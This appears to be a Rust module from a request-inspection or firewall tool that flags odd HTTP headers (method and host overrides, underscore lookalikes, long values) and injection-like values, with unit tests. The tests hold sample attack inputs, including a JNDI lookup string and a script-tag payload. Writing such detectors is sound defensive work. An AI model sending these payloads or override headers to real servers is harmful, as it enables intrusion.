//! Oddities of a head: fields in, what clients in good faith rarely send out. Keeps no value.

use httparse::Header;
use model::{Charset, HeadSign, HeadSigns, Sign, Signs};

use crate::signs;

/// Longest value that is ordinary; cookies and credentials may be longer.
const VALUE_BYTES_MAX: usize = 4_096;
/// Most fields that are ordinary.
const FIELDS_MAX: usize = 64;

/// What is odd about the fields seen so far.
#[derive(Clone, Copy, Default)]
pub(super) struct Oddities<'h> {
    head: HeadSigns,
    /// What the values look like.
    pub(super) values: Signs,
    /// Another host that the head names.
    host: Option<&'h [u8]>,
    fields: usize,
}

impl<'h> Oddities<'h> {
    /// The next field.
    pub(super) fn field(&mut self, header: &Header<'h>) {
        let (name, value) = (header.name, header.value);
        self.fields += 1;
        if self.fields > FIELDS_MAX {
            self.head.insert(HeadSign::ManyFields);
        }
        let is = |known: &str| name.eq_ignore_ascii_case(known);
        match name.len() {
            6 if is("cookie") => return,
            13 if is("authorization") => return,
            19 if is("proxy-authorization") => return,
            13 if is("x-http-method") || is("x-rewrite-url") => {
                let target = is("x-rewrite-url");
                self.head.insert(if target { HeadSign::TargetOverride } else { HeadSign::MethodOverride });
            }
            17 if is("x-method-override") => self.head.insert(HeadSign::MethodOverride),
            22 if is("x-http-method-override") => self.head.insert(HeadSign::MethodOverride),
            14 if is("x-original-url") => self.head.insert(HeadSign::TargetOverride),
            6 if is("x-host") => self.host = Some(value),
            16 if is("x-forwarded-host") => self.host = Some(value),
            _ if name.contains('_') && is_lookalike(name) => self.head.insert(HeadSign::Lookalike),
            _ => {}
        }
        if value.len() > VALUE_BYTES_MAX {
            self.head.insert(HeadSign::LongField);
        }
        if value.iter().any(|byte| matches!(byte, b'<' | b'$' | b'`' | b'\'' | b'{'))
            || memchr::memmem::find(value, b"../").is_some()
        {
            let seen = signs::of_value(value, Charset::of(value));
            // An address or a document type is nothing odd in a field.
            let odd = [Sign::Sql, Sign::Script, Sign::Traversal, Sign::Command, Sign::Template];
            odd.into_iter().filter(|sign| seen.contains(*sign)).for_each(|sign| self.values.insert(sign));
        }
        if !self.values.is_empty() {
            self.head.insert(HeadSign::Field);
        }
    }

    /// All signs of the head of a request for `host`.
    pub(super) fn signs(&self, host: &[u8]) -> HeadSigns {
        let mut signs = self.head;
        if self.host.is_some_and(|other| !other.eq_ignore_ascii_case(host)) {
            signs.insert(HeadSign::HostOverride);
        }
        signs
    }
}

/// Whether a name is one that gateways set, but for underscores: some servers read both alike.
fn is_lookalike(name: &str) -> bool {
    const TRUSTED: [&str; 8] = [
        "x-forwarded-for",
        "x-forwarded-host",
        "x-forwarded-proto",
        "x-real-ip",
        "x-original-url",
        "content-length",
        "transfer-encoding",
        "x-api-key",
    ];
    let same = |known: &&str| {
        known.len() == name.len()
            && known
                .bytes()
                .zip(name.bytes())
                .all(|(a, b)| a.eq_ignore_ascii_case(&b) || a == b'-' && b == b'_')
    };
    TRUSTED.iter().any(same)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn signs(fields: &[(&str, &str)]) -> Vec<&'static str> {
        let mut oddities = Oddities::default();
        for (name, value) in fields {
            oddities.field(&Header { name, value: value.as_bytes() });
        }
        oddities.signs(b"shop.example").iter().map(HeadSign::name).collect()
    }

    #[test]
    fn heads_by_table() {
        let long = "a".repeat(5_000);
        for (name, value, expected) in [
            ("X-HTTP-Method-Override", "DELETE", "method_override"),
            ("x-original-url", "/admin", "target_override"),
            ("X-Forwarded-Host", "evil.example", "host_override"),
            ("X_Forwarded_For", "10.0.0.1", "lookalike"),
            ("X-Custom", &long, "long_field"),
            ("User-Agent", "${jndi:ldap://a.example/x}", "field"),
            ("Referer", "https://a.example/?q=<script>alert(1)</script>", "field"),
        ] {
            assert_eq!(signs(&[(name, value)]), [expected], "{name}");
        }
    }

    #[test]
    fn ordinary_heads_have_none() {
        let fields = [
            ("Host", "shop.example"),
            ("X-Forwarded-Host", "shop.example"),
            ("sec-ch-ua", "\"Not_A Brand\";v=\"8\", \"Chromium\";v=\"120\""),
            ("User-Agent", "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) Safari/605.1.15"),
            ("Accept", "text/html,application/xhtml+xml;q=0.9,*/*;q=0.8"),
            ("If-None-Match", "W/\"5e1-18c\""),
            ("Cookie", "a=<b>'"),
            ("my_header", "1"),
        ];
        assert_eq!(signs(&fields), Vec::<&str>::new());
    }
}
